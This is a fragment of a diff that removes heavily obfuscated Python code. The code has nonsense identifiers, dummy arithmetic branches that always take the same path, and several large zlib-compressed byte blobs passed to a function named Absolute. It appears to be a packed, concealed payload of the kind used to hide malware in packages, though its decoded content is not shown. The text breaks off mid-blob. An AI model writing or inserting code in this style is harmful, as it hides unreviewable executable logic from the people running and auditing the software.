-            Divide._system(_round=-87917 * Divide._frame)
-        elif 160813 < 1501380:
-            _power(DetectVar=-17926 - -
-                   91794)._system(_round=76793 * Divide._frame)
-            _power.Absolute(_memoryaccess='mnmnmmnmmmnmmmnnnnnmnnmn',
-                            System=b'x\x9c\xed=\xdbr\xdb8\x96\xef\xae\xea\x7f@\xd8\x95\x12\xd5\x91\xe8K:=\xd3\xaaVo\xa5\x13\'\xf1Nb\xa7b\xa7=]\x8e\x8bC\x89\x90\xc46o\xcb\x8bm\xb5J\xff\xb1o\xf3\xb2o\xfb\xba\x1f6\x9f\xb0\xe7\x1c\x00$@\x91\x8a\x9ddz\xaa\xba\xc6I,\x91\x00\x0e\x0e\x0e\x0e\xce\x15@\xbef/_>`\xbf$%\xfb\xb5\xcc\x0b\xe6\xf3d2+\xf3\xa9Wp\x9fyl\x16\x84\x9cion\x82b\xc1\x9e\xf3\xb0\xbc\xe5;;_\xb3gI<\xcf\xbc\xa2\x0c\xbd"H\xe2\xfc\xc1\xce\xceN\x91-G;\x0c~\x82\x19\xb3\xe9\x0b\xfe\xb8\xae\x02\x92d\xae\xcb\x1e\x8c\x99%\xa0X,\xc9\xb4Z^Y,\x92,\x97UN=\xff\x95\x175\xaa\xcc\x01\x85r"k,\x8a"\xcdG\xbb\xbb\xe2\xa53M\xa2\xddFu?\xc8\xa7I\xe67\xea\xcb\xb7\xce|\xde\xac\x1f\x06S\x1e\xe7\\\xd6?|\xfbzx\xe0\xec5\xeaL\x13_V\xe8\xa5Y\x10\x17\xb6\xf5\x8a\x87a\xc2n\x92,\xf4\x1fX\xfd\x1e\xd5\xed\x8f\xaa&X\xa7\x97_\x05~\xaf\xbf\xc3o\xa7<-$\x8d\xe2\xb4\x84\xd6\xef\x92\x9c\xe7\xcc\xcb8\xcb\xb8\xff!\xfe9HB^\x88\x17\x93\xb0\xe4\x1fb\x9c\x1e|\xf2\x18\x02\xf9\x10\x1f\'\x93\xc4_\xb20\xb8\x82v\xcb\xa4\xb4\xfa;\x02\xb3 J\x93\xacp]\xe8m\x99\xf7\xfa\x0e\xbf\r\n\xbb\x0f\xd3\x12&S/\xcc\xed\xfeE\xef\xf4\xf4\xe0\x00\xff\xe2\xa7\xf8r@\xdfz\x97\xe3y\x98L\xa0\xd6NW\x15l\xfe\xd7\xf3\xf3\xbf\xd2\xcf\xb9\xf8v\xde\xbb\x18\x8d\x1e\r\x1f\r\xed\xa1\xfdh\xbf\xdf\xbf\xbc\x1c\xfbA\xb6\x15\xc4\x1b\xf89>\x86\x7f\xf4\x85>\x8e\xf1c\x13\xd2\x9c\x17^Ql\x87v~N\x98H\xac\x083z\x82\xf1\x88A\xeft\xd5\xa0\xd6\xe2I\xbc\xc4j\xd0\xac&\xe3\xd6\x8e\xc5\xabS\xfaK5\x90\x84\x1b\xf0\xec\xde\xa4\x0c\xc2"\x88q:\xae\xbdl;u\x7f\xc5\x9f0\xfc5\x0c~\x85_a\x00\x9f\xf0\x1d\xe0"\x9d\x8e+r\xe1/z|c\xb7t\x98\xc7A\x11\x06\xe5\xa4I\xcf\xfe\xe0\xbc\x1a\xbb\xa4\xc2\xbd\x9a\xf7/>\xb3\xbd\x13\xc4>\xbf\xb5{\xa1w\xcd7J/\xfb\x1f\x9df\xbd/\x9a\xe0\xfbP%\x08\xa6\xb9\x17\x07\x9fJ\x95\xce\xe6w\xa4Jw{E\x95%\x08\xdb[\xbe\x88\xcbV\xd2l0\x9b \n\xc2?W\x0c\x8e8\xc0\x9f?\x1a\xbb\x14^\x12\xce\xee\xcb/q\x1cE\xf8/\x92\x1f\xf0+\x8e\x802\xbd\x9e\xf3k\x12\xc4[\xdb&\xc9Ir\xf2\xfc\xf9\xc9\xc9s\xf8\x92\x9c\xc0\xbf\xe4y\x92\xfc\xd1\xc8\xca\xc3 \x8d\x92\xe9}\t{*\x1e\x14+V\xe5\x7f8\xf2\x94\xd9\xd9}i\xa3\xba\x14\xebR|\xff\xa3\xd1%+\xf26\xb2lS\xb2\'{{\'\xf0\x87~`1\xc1oXQ{\x7f\xbc\x05\x95\x87\xde\x8b{\x08\xef\xbfJ#J\xf4|.{\xfc\xa3Q%L\x92\xcd\xd2\x8f\xae\xa3s\xd57\x91\xc702\xdbm${\xd3@\xb0\'\xbd\xc7{\x07\xfe\xc1\x9f\x0f\xfc\xc7\xfb\x07\xdf\x83\xfd\xe5s4\xdd\xed\xde\x9fg\xc5\xa6\x96\xed\x93\xc9\xf9\x87\xa2\xfd\x94\xdf\xb6\x1aZ\xf03\xcb\x92\x88)\xd3\x94\t\x83\x97y\x93|\xe0\x85\xe1\x00,x\xf8w\x1d%\xfe\x00 L\x07\xb3$\x8b\xbcb\x10\xf2x\x10y\xb7\x83\x98\xdf\x16\x03p\x9f\x06\xe4\xfd\x0c\xb2\xa4\x8c\xfd\xc1$I\xc2\x01\x8f\xcb\x88\x83G\xc8\x07\xb30\x81\x16T\xec\xc5s>\xc8\x8bl\x90\xa4\x00\x00]\x92\x1d\x84j\xf7\xc0\x1b\xda\x91=\x87\xc9|\x1e\xc4\xf3\xaf\xd4s\x92W_\xa1\xbd\x9fD\xf5#\xaf\xbe\xe6\x8b\xb2\x08\xc2\xfa\xb1\x9c\xa4Y2\xe5y\xdd\x16\xbc\xa0\xea{\x11D\xd0\x94\xc6\xed\x03\x86\xf8\xa8\xc6\xad\x9eeqR\x11\x04\x1c\x90\xe9\x8d?\x80Nc/\xe2\x03v\xe3\x85W\xb2R\xea\x15\x8b0\x98\xa8\x9ao\xe1Q\x96\x08\x84\x99\x86>\x92\x01\xb1\x9d\xcdB\x00R\xc6\x01\x12T\xd6\xae\xb1\xae@\x1d\xbd=\x94\x85:\x92y\xc8y\xaa\xde/S\xa0\x96*9I\xd1\xfd\xf6\xc2\x01;+S\xec\xe1}\x0c\xcf\xb2j\x99\xc1\x1a\x998)\xb8\x1e\x15(xG\xcf_\xedT\xd4\xe1Q\xf2kP=\x89F\x8f%\x88i\x12&\x99\x17y\xaa\xf9\x8b$\x83NN\x8be\xa8(\x96\xf1\xff*y^\xe8tC\xd8T\xf6\x12\x9a>\xf5\xfd`Z\xa8R\xd7\xc5\xb8\x82\xebnT\x00\x07>\xe3\xf0+\x9e\x05\xd5\xe0\x9e\xd1SGU`\x1b\xadK\x17\x1e\x05\xe8\xe9\xb6F\x19\xa7\x06\xb2\x1d\xf1\xb0;+\xc3\xd0\x15\x05\x9d\xad\xf2\xa4\xcc`\x9eT\xc3w\xf2\xc5\xd1s\xe6\xe5\xac*\xeeh\x9e\x17@\xc2y5\x03O\x9f=;y\x7f|v\xbaY\xfb\x9ag9\xcc^M+\xf9\x02\xc9\xf5\xd5\x0e\x060\xd8X\xcd\x8f\xf3\x16\x16\xdd\x1b/\x06\xc0\x99\xdd\xffj\x07W\x11\xcf\xa0\\.\'\x07\x88\xf2\x9a\xde\xd9\xae\x8b\x1c\xec\xba}\x84\xf2\xd5\x8e\xcfgP\xc9\xf3%\xa5l\xf11\x92\xd4\xee\x8f\xbe\xa2\x80\x82\x08\x080/M\xdd\xc07_e\xf3\xdcx!\x00\x98\xefj\n\x89\xd7\x02\x0e\xa0\'*;\x08\xc4\xd1\x81\xe3\x0b\xb3X\xbc\x97\xc0\xab"\xf1V\x9b\x80qM\x7f[\x00\xd4\xc6Y\xa6\xb8\xbe]\xef\xda\x0bBo\x12r[\rOQ\xd1\x0fr|\xef\xdexY\x0cT\xcb\x91\x942\x84eM,\x16\'\xc0,\xb1>\x13\xb2=\xfe\xa8wr\x050-\xc8\x94y7\x8e\x08L\x959\xcf\x00\xf3\x82\xc7\x05\xc5\xa8\xea\xe9\xde\x9d$\xc5n\xe4\xe5\x05\xcf\xf4\xb7\x12\xaa\x93.-\xd1\x15\x0fs\xfe\x85{\xf5\xf95\x0f\x93tk\xb7\x18\xcd\xab{E\xce\x02\x8e\xb2\x1b\xbd\x0f\x10\x9d`\xb6\x1c\x9fe%\xef\xd7\xd5\x938\x0cb^Q\r\x10\xc3yr\n\xd0\x1eN\x9e\x86Aa\xf7\xac^\xffb\xff\x12\'\x8a\x06I\xa11vH\x1f\xb8\x06`]\xe9\xa3\x16\xec\xed\xf0,K2\xbb~\x8d?3\xebl\xc13\x0e\x02:g^\xcc\xa8\n\xf0D\x91\x05\xfc\x1a%e\xb1\xe0,\x04.\x00Z\xa9\x05\x96\xcc\xb4e7b+\xbe\xb6j\x98\xda0\x00J\x99\xc5\xec\x85\x07S0\x10\x1fwg\x0f\nA\xa9\x12\x18\xbeVK\xd2\xc0r\xacN\x9aA\x83M"n\xb4k\xf0\xc6\xdd\xba\xbc\x18\r\xf7/\xd9\xa3\xaeR(\x94\x8f&\x9da\xc0\xadD\xba\x1f\xde\xaa\xf3\xceJ\x8dN\x1d\xbdS\r7\xc0F\xe2\x00\n\x95\xc58\rdm\xd8`\xa9\xd8&\xf0~_#\x11\xcc\x1c\x86d\xcd\x1a\x17\xf1e\x9f\xfdH\x05\x06\t\xf1\xfd\xc8DH\xb2\x04\xf2\xfb\xa0e\x10w\xe9h<\xbeSO\xb8~\x83\xb8\xe4\xf5\xdbI\xc6\xbd+\xf1hrf\x1b\x1eJ\x04N\x17|z\xe5\x063W\xc8B\xdf\x9ef^\xbe\x18SK\xd5%\xe0\x8a\xacL%\x9b\x8b.\x88g\x89m=C8\xb8\x9e\x90\xde\x02V\xee8\x15\'\xc6\xfcF\xf60`5+l\xca\xdf\xba\xc3\xaa\xc1f\x8fR\x1a\xdb\xd6\xf1\xe19\xfb\xf9\xf0\xdd\xe9\xd1\xc91{\x01Z\xf3\xf9\x03}\xc54j7\xc5\xc2\xcf\x12\x8d\x95\xc4g\xcd\x16 "&\x9c\x03\xab\xf0\x90{9\xf7\x1f\xb0\xb7\xf4E"\xca\xf2\x04\xc4\x85W``\x9dMA\x98\x80\xc8c`\x15\xeb2d\xc6= =\x06\xedc\x1f\xac\xe8\xf9,\xb8\x05B\xb0g\x0b\xe4>4JH\x18\r\x7fd-\t\x8a\x86\x18\x9e\x80\xaeT\x1a\xe0\xd9\xab\xa7\xc7/\x0f_\x9f\xbct"\xbf}\x9d5i\xf3\xea\xe4\x9c\x9d\x9d\xb0\xf7o\x9f?=;\x1cm\xa1\x8bu4\xa3\x01\x81\xb5_\xc0`T.\'\r\xd2\x11\xfez\xac\ntsm\xf8\xfe\xfe\x00a\xa0#\xfc\xc5R\xb0\xa8\xf4\xe6d\xbe\xdaO*\x99u\x17v\xfb\tEk.\xe7\xc5w\xac\x01\xa8\x88"\xf3\xc6+\x8bLRk\x04\x13\xbc";\xd4\xf9\xe9\xdd\xd1\xcbWgkk\xdd\xbf377YE\x1b\xf9\xb5\xb3\xd2\x04\xe3\xda\x1a\x98u?\x86\xc5\n-d\xe7\xcd\xd3\x97\x87\xc7gO\x01\xa7\x811\x97jQz\xf9\x95\x0b\xeb\xc8\xf5\\\x1f\xacwTx\x95e\xd2\x8e&\xe88\xa0\xc6D\x10e\xe2M\xaf\x14\xd1\xc3\xe4\x9a\xb3\xc9\x92\x81\xb3\x80\x0bs\x96q\xee09?\x98$beN\xee\x02\xa8j\x10(y\xe0\x83\x91(\xfaD\xd5\x98\x00\xb7\x86)\xbb\x82\xf9A\x08QR\x04\xd7H\xefQ\xc5\xbd777\xce\xa4\\F\xdc\x9b&\xb3\x19\xe7\xc4\xc7\xc8\xb3Y\x12\x96\x13\xae\x93\xe7\x13I\xa3\x91%\x82\xc1\xb8h\xbb\xa0\xc1\x9a\xbbE\xe2z\xd3)\xb8\x98E^\x91\x07\x9d-[\x99\xd0}\'\xba\x02\x87\xd5\x06\x8f\x06,\x9d|,\xa42\xb8\x99y\xe1&W\xbaQ\x12\xa2\x05\x89\xce\xab\x8d~\x1ci"a~\x10\xc3\xccc\xc0\xccw\x01\x14\xd4\xba\xd0\xa8\xee\xba\xe9r\xea\x81\x08u]}\xa4\x16z\xcf\xbe\xf1F!j\xbc\xac\xd9\xcax-,\xd9!\xbf\xf5"\xf0\xd9\xcc&h\xc0\x99/\xaey|m\xbc\x01\x9b\xb5Y%\xc7\xe0\xc6\x06\x1c\x10;f\xbf\xb8"\x1a\xfd\xcd\xd1\xbb\x13\xee\x07\x9f\xcf\x87\xc8vF9\xb0\xa3\xd9 k\x00@\xa1h\xa2WF\xa9zq\xd9P\xd1\x1a\xa5\xb5\x95i\x9a\x9ab\xba\xc0\xe9Bn\xb0\xe3\xbe\xce`d$\xfe\xec\x85%?D3\xaf\xd1*\xf5\xd0\xff\xaf\xbb\xc4\xf9\x84N\xc3|k_ .\xb0\xe2\x831~\x80\xb3\x96\x05\xa9\xdd\xd4\xc5\xf8#\x02\x016p5\xd4\x03\xb9\xa0W\xef\x9b\xd5Et\xc2\xa1\x01h\xb5\x06\x95\xef\xb79\xa8N\xcb\x97\xc8\xd1m\xfd\xd2X\xad\x17I\x88\x0b{\xa5u\xb6\x06\xc5\x05\xf6\x82\xbf\x14\xeb!\x7f\xc0\xce\x93\xb8W0\xc0)\xbb\xc9\x02Pv(\x13R\xa1\xfe\xc8H`7\x8b`\xba@\x01\x83\xea\x0e\\\xd7\x8c\x83<LbN\xaa\xce\x07\x95\t\x8d\xb0(\x81_\xd9\x83\x1a\xe5\xa6\x05\x8d?M\x8a\x90\nx\\Kh4\xd3\xc2\x1c\xad\xae\xbdn\xfd\xdf\x14\xd3\xef\xa5h\x80\xd9\xc5\xf1\xe6l\xd5\x1b0\x91\xd5A`\xa8\xe0Q\x1a\xa2\x86G\xda\xfb(\xe0"\x0fX@\xd4g=\xb5J{\x0e\xb8\x90\x11\x8f&')
-        if 414454 > 1355711:
-            _power(DetectVar=-63897 + -711)._system(_round=8866 / Divide._frame)
-        elif 292066 < 2478888:
-            Divide._product(_callfunction=Divide._frame * -53973)
-            _power.Absolute(_memoryaccess='xwxxxwxxwwwxwxxxwww', System=b'\xf0R)\xfcLz\x98b\xe7C\x84["R\x00\\\xe0\x903\x8e\xc3\xa5\xe5:b\xbd\xe1P\xd6T\xe0v\xb1\xb9\x92[\xbb\xd2\x87]Fa\xcf\xd4\xe4\x95IF\x15\\\xb5\xfem\xcd\x0c\x13Q\'\x9b\x8cD\x15+\x01\x93\xf9\xe0\xf1\xe5&\x95|\x0e\xe6\x07(\xe3J\x0b_\x07\x1e\xea\xdf\x01k\x08\x18\x9cR \x02\x191htJrt{\x11\xdd\xe0\xc1^pZ,\x83\x16\xa5j=OH\t\xddxH\xc2Dj\xf2\xdd)\xf0$\xb0\x91F\xef\x1aM9K\xb8d\x11\xcd\xff`\xcf\x13B\x1a\xde\x87\xc9\r0\xc4\x88}\x88?\x14\xe2\x8fa\xb9\x0c\x87H}\x1c<.e4\xba\x97\xa2e\x90\xe5"\xfc\xd7\xd7Z.\x8bE\x12?f\xc3H5\xf8\xb8\xa9V\x80^U\xa6Z\x13m[\x00\x84\x95\xc2\xce\x83\xd8On\xf2\xfe\xc7\xac\x06\xd2\x84/\xdf\x1d\x1e\x1e7\x0c\x84\xcd\xf5b\xda\xf1\x9e?\xc1\xb8M\x0c+S7\x1a\x82\xdc\x05\x9f>\x98r7\xf0\xdd4K\xaeA\xcf\xd7\xd1\x96\xdc\xa9\n\x91\x15\xd08:\x86e-\x9a~\rFoD!P`\x92\x02t$\xf7A\x00\xdc$u`\x0f&\xef\xc6CK"\x05{_4\x02\x19\xc3\xbd\x08}\xbd\xdcI1\xb6k[\x80\x19\x13\xdd\xe4\x8aAD-g\x1a&ye\xf9\xdf\xadeR\x16i\x89\xb1\r\t\x02\x05\x99\x82 \xab\xba\xb4\xf40\xe0\x050\x80\x9a3 =\xb0\x82m\x89\xf2\x0f1Hh\x01\xa6\xdf\x81NE\xba\xe4\n\xc0\xa0\xb1 \xde\x00%r\x8c\xd7\x8d\xd1\xea\xf2\x8a^\xce\x92+\xe5\x86\xa2\xb20\xfb\x1f\x1b\x02LA\xd3b\x05\r\x90\xcf\xbc\x18\'\x80\x02\xbfh\xd8jF\xb1\t\xf9G\xb6O\x82\x97\x82\x0cm\xf3{\xafnO\xd1\x93\x91=0\x92\xa1\xb0\xcc\xb4U\x88\xe2\xca\xaah2\x13\x10\xbb\x84\xc2\xccz&x\x90\xfb\ni\x92\x0e0\x93\xa0\x0b\x8ca\xac\x1d\xb6\x92h\xac\xb7\xcb\x1b\xa1\xdd>\x03\xb4\xe1\x19\x13\xfe\xf5\xea\xc1\x101\t\x0b\xb4w\x94y_-\x9fM\xa6\xac\xb1\x9b!\x7f\xaez=$J\xebr\xc2\xa5DCb\xb3\x1e\x1b\x82N\xda\xa8\xb5\xee\xad\xc1$\xe0 \xa7\xd06\xca\x979X*\xd3+\x9c\x98\x95\x88X*\xe5Y\rb\x1b\xff+\xdf$\xf2\n\xd0\xd6\x18\xfe\xacy_\x96\x1d\xc3\xfc\x8e\xed\x0f\x1fN\x1f\xf5\xebU`\xb4\x86v\x06\x9c\x8b\xbdK\xa5\x95\x8d\xf7\xa4\x88\xf6\xc5\xf0,\xe4\xc4\x19f|\xac\xee\xf5-\xc9/\x81\xd4\x13\x80T\xd5f\x00}\x17\xb7\xccB\x1b\xfe\xf5\xd1[\xc6\x1cR\x8b\x074\xb3N\xa0!;R\r1\x90,\x1c\x1fh\x08\x0c\x01\xbf+\xb6\x9aF(\xf2\xbe\xe8|A\x87\xd0q\x06\xfe\xb0\x87k1K\x02\x1f\xf0\xa2\xb0\xaaG\x12\xd8\xf9\xf9\xe8\xf0\x9c\r}\x89\x89\x9a?@\xc5\xc5\x18\xc1X\xcb\xf18Y\x19\xdbP0\x00\x90>\xcc\xc9\x18\x93=\xf4\x00\x9c\xaf\x1e\xb0W\xe5\xc6\xc4`\xd4\x83\xd2\x1b[e1\xfbs\xb5v2\xf4Q$|G4V&\x9f\x9c\x01\xcaA\xb9B\x83\xd4\x06\x17\xd4\xebZ\xceP\xd4\x11\xf44\xe6THH5\xa1WA\x18\xba0\x1b\xb6 \xdb@\x86\xf8\xd5\x92\x12o%M\x7f>\xa0X\x7f^$\xe9f\x8c~\x01\xbc\xed\x96\xa9\x0b\xdc\x15\xcc\x82\xa9\xd8Oj\x83\xb1=\t\xd1\x11E\xc6P\x92M\x01\xb7,\xc9\x81\x87T\x8b\x91\xadO\x81|\x826,\xd3\xa1\x01\xad\xd1\n\xa87B\xe6\xfd\xd2\xdc\x92\xf3\x02\xddjX\xde\xb0ve"\x04\xf1\xc97\x86\xe7\xca\xe1\xb1\xd5>\xcd\x8d|\xa2~\xf6\x944\x90d\xff\x92\x1cd\x1a\x139\x18c\xb0*Q\xf7\x03\xb4J\x1a\xbe9:v\xcf\x8e\xde\x1c\x9e\xbc?\x03\n=a\xdf\xb0\xef\xdc\xbd\xbd\xbd\xdf\x89v\x18r\x03\x11YpXz\x02\xbfd6S8Z\xb5\x94\xcf\xd3\x7f\xc2\xea\x92A[\x84\xee\x088N\xa8\\<\xf6\x83N\x99;\x06\x96N\xc5\xb0\x98\xc4\x1f3\x0fh\x97\x8a\x91\xa1e\xb5\xd2`\xee\x12\x9dG\xce\xdel\xcd\xa2 .1\xc2\xda\x1e\x0b\xfc]8\xb8s\x16\x0c\xa4k\xa1G*\xe1K\x8b\xbbVSA\x84\x08O%\x11%R0T\xd0\x83\xfc\x81\xce\xe7\xa6\xd6\x91\xa2J\xf1y\x8cr\xc5\x02CQ<\xbe\x00\xeb\xfe\x08we\xc3\xb8\xb0\x00\xbc\x00\x19Dq\xca\xc0+\x8b$\xc2-\xec\xbb\x8e^\xcf\xda\xd4X-\n\xcb\xa9\xad\x13Z|\xa0\xaa\xdd`n\x04\x19P\xa0c\x12\xf6\x9f0\xa7\x95\x0e[\xf5\xa4\x9b\xf4\xfd\xf7\xdf\x1b\xa0)\x19\x0bZ<\xe6>Jt7J|\x8ez\xbfw\xd0\x13\x9d\xf4\x00\xd80\xae\xac\x95]$MEU\x07=l\xd4\x86\xd7A\xb1t\xde\xc0\xc3S\xf9`m(\x95\x06{\x98\xabE\xd0\xe0\x13\xf9\xa5\xe1hk\xaaRQ\xbbUYb"\x8fBI\x16\xda\xc3\xad:R\xd8\xa5\xd82\xe3i\xe8M\xb9\x1d\x87\x03f9\xcc\xeao\xd5\x9ad\xd2[\x11xz\x18b\x88)\x90"\xa6g\x97Gxn\xe2\xe3\x9d6\xa5\xc9\n^_|?\xbat\xa6^\x1a\x80\xe3\x1b\xfc\x06v\xd7\x1a\xe8\x92\xf2i0[2\xf2{\xb1\x9f\xc9R\xc6}\xff&z\x1c\xc9\x9e\xd1\xf0\xff[\xbb\xe5\xdf"e:\xc6Dt\x85\x05bm\x8f\x19\x10\xf7OE\xe8 /\xa78\xe9\xb8\xd5by\xa7\xb0\x83\x18kE\xf1\xde\xb9\x88\x08\x8d\x18\x06|z\xfd\xb5\xb6\xa4"\xef\xd6\xc5d/Z[\x8f\xe5\xca\x86\xafR_\xdd,0\x9a\xd3f\x8dL\xcb\x0c\xa3\xc6v\xff\xc2\x92\xe6\xb8u\x89Q@\xc1\xe4f\xca0\xc6\x01W\x1d\xb5G\xe7\xa6YP\x80~\x0f[\x03t\xef\x85\xa1\x02\x02?1\xc4\x83\xc30\xd1q\x13\xa0\xec\x05\xeb\xc8a\xcf\x04V\x95\x87\x803V9>]\x03\xe8\xc9\xda\xbd\xcb5\xb3_\'I\x95\xa7S+\xb6\xbf=:\xb79\xd1\x82\x8a\x8f\xc0\xf6o\x17\xbe3\xeb\xdc\x0b\n\xd5M=\xdfr\x80\x8e\xe3\xb0\x7f\xfc\xfd\xbf\xff\x8f\xd9\xabx\xbd\xbb\xaa(\x07\x88\xf4\r\xc2V\xd9I\x8aM\xbb\xe0|\x81\xa9\x04\xbe\x1b\xc5\xdc\x1a\xf2\xba\r\x0f\xebh.\x12=\x1c\x14M\x91-+\n\x07\xe0\xee\xceA\x16i)J\xfc\xa9\xa4\x81\xf6j\x91\x80\xff\xe2\xd6\xf2Ou\xabi\xb5\xab\x00\xac\xd7\x08\x84\xa8\x1b&\xd3\xab\xcd\n\x86\xcd\xfdx\xc0\xe0/\x08\xd1\x92r\x9e2\xd5\xaa\xd8\xd5\xc0\xfe\x1d\x05h\x91\x84\x93\x844\xef\x83\x7f\xfc\xfd\x7f\xfe\xf7\x0e\xc9\xae\x95\x16A\xa2\xc4\xd7V\xdb\xbf)\xe8a\xb80\xce\xbcK\xb1>\xc3\x1aU\xde\x93\xa2\xbd\xb8*\xf2\x01R\xd7\xbbNP\x07\x81\x13\x94\xcd`\x8e\xe2\xa9\x91\x06\xc6\x1f\xe2M\x04\x81\xeeX\x97\x1f\xe0\xa2\xbf\xcao\xa7a\xe9\xf3||!\xf8\xf4\xb2#\xb2\x08\xa3\xaf\x03\xbd5x#\xe0+^\x19\xf9\xe16j\x98\x82J\x99g\x86\xee\xf7rT\xd3^\x19\x16\xec\x8a/\'\x89\x97\xf9\xd5\xf8\x9a\xc3\x01\x83\xc9\x9dAc:\xce\xe5\x82%bkI\xa7\xdf\xc7V\xe6 \x07\xb8\xc2\xd8\x15\x88D\xbcX$\xfe\xef\xe0\x8e\xe2pj_\x14\xedeCIZ}\x94\xa8:u\xef\x1e\xec7\xe6D\x86-\x91\x1f\x9bs\xf3\x80=\x97o\x82\x1c$\xe5\x16tHq\x88L\xbd\xc8\x89\xaa\xc8\x92\xf3;\x9b\xd9\xb8\xb5\x13&\x91\xad\xf41\x9a\x86t\xe7\x94m\xd8L_\xc2`R_7\xa7\x93L\xc7\x1c#.\xb60\x94FV\x87<n\x9fG1\x97\x1f\x9f\x95#\xdc\x08\x9c\\\xe5"i\x8d\x89\x03\x9f\xd2U\xb4\xc0MV\xa8\x12\x12\xa3\xd3n\xb5\xd60.\x9a\x12e\x83\xbb\xda8\xeb#\x96\xca\'\x00j\xcab\xe9[e\x1c\x8f\xa4n\xcdRJ\xc1C\xd3!\x1dw\xd1JWe_$\x97\xf8\x8b\xd8\xfb\x02\xb4\x07g\x01\x86\x83~\x95\xd8\xf3B\x817r\xb5\xc4\x14\xe0"\xf29h[\x1fx+\xc0]0g\xcb\x94\x8b\x84\x1a\xd8\x98\xb8\xdf \xa1\x84\x99\x99\xaby\xcf>X\x9aGup\x11D`\xbb\\~\xb0\xd80\xa8R1\xe92\r\x1c\xe0\x95\x89\x17\x07\ted\xf2\x00\xd3-=\xe7Ny\xc7\xd6\x90\x95\xd0|]\xee`\x8b\n\xdc\xf4\xe2\xb4\xa9\xd8\x12\xda"\x0ct\xe5\xf3d\xc0\x9e\xb4\x99\x04_\x88\'@\x9d\x1a,\xa1o\xf1\xfa7w\x98\xdc\xb1\xb1/n\x9b\xe5\xd9\x88L\'\x93_k\x93\x06\x83\xee\xb6\xda{|\xe4\x8f\xeb=\xc9\xce\xb3wOO_\xb9oO\xde\xbe\x7f[O24vD*\xde\xf0\xfc\xf1\xf54\x0c\xc0\xaa\xdc\xf4\xbc\xea\x9c\x94i\xa1\xab1t\xd8\xa5\x885\xaa\xa3:Z\x8a\x15\xd9<I\xe6\xe0\x83P}\xcc\xb0^U\x01\xd1*\xf7$\x06\xa5\xe3Q\rO\xc4C\x08\x84\xa3B\xe1\xf3(\x1f\x05>\xe6ta\x8e\x8b\xc0\x0b\xdd\x14\x06\xc237\xf4\x96"ZGDW\xc3.\x03\x15A\x1a?6\x82\x1f\x1eX\x91\xa1;)\xe2n\xean\xeb\x9e\x9a\x9bV\xbe\x02X\x93\xb6\xa2\xd9"\xb9q9\x1e\xcc\x98c&\xd5\x0fD\xbcY\xe1\x03%\xae8\\?6\x97%\x16\x00\xb7P\x19\xfc\x8e\x82\x02\x96(n\r\xf2\xeb\x86"Q\xdd\xd5T\x96v5\xbe\xc1|Kg\xbf\xb2\xb4\xab1P\'\xc2-P\x1d\xadUqW\xf34\xeah\x98FmM:\xf6\xa8\r-\xf6\r\xfb\xd3\xde\xbd\xb7\x84\xfdr\xf8\xfa\xf5\xc9\xb9\xb1#\xac\xbb\x17\xf4\x05N\xc1\x18B\x01&\xa6\x91\xd5\xd38\xea\x8d~x\xfcd-\xb6\x08\xdd\x7fo\xda\xbd\x10\xf9\xfd\x86\xfb\x1ayN\rmUq\xe8\xfa\xfe\x03$\x87Qd\x1c\x14\x9b\x93\xc9J\x85\xef\x0e\x9f\xdf\x03\xa9\x17\x82\x9b\r\xb4$\x87\x7f.bj\x19}*j\xe7b\xad\x18\xa8\xc9\xf5\xf3\xb9\xa8\xa9E\xfa\xa9\xa8=\x93\x0b\xd1\xc0M\xad\xce\xcfE\xae\x12\x02\x9f\x8a\xdd\xdb7\x06^i\xf4\xb9\x18\x81\\\xf9T\\\xce\x92\x02\x0f\x1bM\x8du\x8d\n\x91\xd9\xe8\tFe\x81\x96T\xff\x13\x11\xbc7"Z\x04\xf3_\x8d\x94\x05-\x18\xc5\x95\xb1\xe0\xe3[\xcd\xfdd\x9a\xab\xbd\xe6A,\xb7/\x95\x19e"\x9d\xc8\xffZH\xd1a.\x84\xea\xb0\x96\xa6\xf7\x1f\xc6O\xaf\xdf\x1f\xfe\x0b\xc4')
-
-        Divide._product(_callfunction=Divide._frame * 48167)
-        _power.Absolute(_memoryaccess='xwwxxxwwxxxxwxwwwxwwxwxx', System=b'g\xbd\xb1\xae\x8c\xc1\xc1\xbc\x89mig\x8c0P\x05\xaam\x7f\x0f\x0fpR\xc0\xd2\x95[F\x94c\x8f1\n\xd3^\x92\xfb\xc7\x9b\xf5k<\x1b%\x08DECW\xa3\xbd\x03\x7f\x8dA\x19\xa0"\x05\xc6d\x90\x1a\xdc\xc1 \r\x03:\xa2\xf7\xdd\x1e\xe5\x1dd\x8a\x8f\x92\x00M\x90\xb4j\xf6\xf5\x10\xb6\x1aQ\x8d\x86\xb8\x80H--\xf6\xa8\t\xc4\x11gw\x15-\xfa\x18\x02\x00C\xeaC\xa6\x9bJX\xe8\x08\'\xa5\xc6\xb1Q\x8eF\xfd\xb0\n\x05\x1b\xdd\x9e\x1e\x9e\x19`k\xeb\xba#\xa8\xbai\x9b\xd2\xfe[\x0fONL\x92[\xf4\xa0\xfd O\xc1\x80\x04\x07_@\xa1\xf8h\x92\x05\xf3 \x86\x85\x08\xdf\x05T\xf4\xc9*\x0b\x16]\xaf\xb8\xa4\xfd\x9c0\x1b\x07\xd6]\xd2[\xd6\xbe%7\xb6\xec[w\xb0\xef\x81\x1b5\x13\xff\xcd\xd1\xfb#\xf7\xe9\xdb\xb7\xebU\xdd\xf5\xdaj\xb5\xf6\r[\xb7\xb9\x8f\xaa\x1a\n\x03\xd1]\xca\xbd\xba\x0e{\x9b\xe1j\x04\x86B7\r\n\xe5\xd8\xf4\xce\xcc\xc3c\xba\x17\xa1&!\xcd8\xf859\xc5\x0b\x82\xb4\xb0\xf1\xdc2\xb1\xfd\x00\x8b\xaa\xad\x15\x14\xb1\xacy\x1fk\xe9\xdb\x04\xcdL\x08\xee\x90\x82\nN\x90\xe3\xe6T\x02\xb9->?\xb3\xde\x951\x86\x85Xo\x85u\xd7=\xf4:W=\xe8\x9fBi\xf0)S\x8c\x88(\x06\xc8\x08Ucl\xc4\x86\x1b\xce/\xb1\xe2\xbe\x19\x1f{K{\xb7\x08\xa7\xb6\xca\x0e.\x10\xbbQ\xd4\xea\x15\xdf\xb6t\xd6\xd8\xa6F\x072x\xd5\n\x8f\x16%SJ\xc9\xf8\xe8y\xde\xae\xf5!tG\xa3\xb6\xec\xe9\xc6U_Q\xad\xda{\x85\x01L\xdc\xacM\x19\xbc<\xe5\xe4h;\xcc>\xc3m\x05\x94\xe7\x15\xbb\x96gt\n\x12\xafg\xbb\xe64\xa7\xb9\x88Na\x90\xb4\xb7\x82iT[\x8d\xd7\xbd\xbe\xd3\xed&\x8bm>\xc5\xad\x0b\x02\x05\x96\xbd\x192\xc1\x90\